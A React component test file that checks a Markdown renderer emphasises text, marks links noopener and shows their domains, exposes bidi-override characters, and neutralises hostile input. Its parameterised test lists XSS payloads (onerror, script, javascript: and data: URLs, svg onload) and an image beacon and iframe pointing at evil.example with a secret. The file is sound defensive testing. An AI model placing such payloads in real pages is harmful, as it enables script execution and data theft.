import { render, screen } from "@testing-library/react";
import { expect, it } from "vitest";
import Markdown from "./markdown";

it("draws emphasis and lists", () => {
  render(<Markdown text={"**Severity:** high\n\n- one\n- two"} />);
  expect(screen.getByText("Severity:").tagName).toBe("STRONG");
  expect(screen.getAllByRole("listitem")).toHaveLength(2);
});

it.each([
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "<a href='javascript:alert(1)'>x</a>",
  "![beacon](https://evil.example/?secret)",
  "<iframe src='https://evil.example'></iframe>",
  "<svg/onload=alert(1)>",
])("never turns %s into markup that acts or fetches", (text) => {
  const { container } = render(<Markdown text={text} />);
  expect(container.querySelector("img, script, iframe, svg, a, [onerror], [onload]")).toBeNull();
});

it("shows where a link leads and opens it apart", () => {
  render(<Markdown text="[the docs](https://example.com/a)" />);
  const link = screen.getByRole("link", { name: "the docs" });
  expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
  expect(screen.getByText("(example.com)")).toBeInTheDocument();
});

it("shows characters that would hide or reorder text", () => {
  render(<Markdown text={"safe\u202eevil"} />);
  expect(screen.getByText("safe\\u202eevil")).toBeInTheDocument();
});
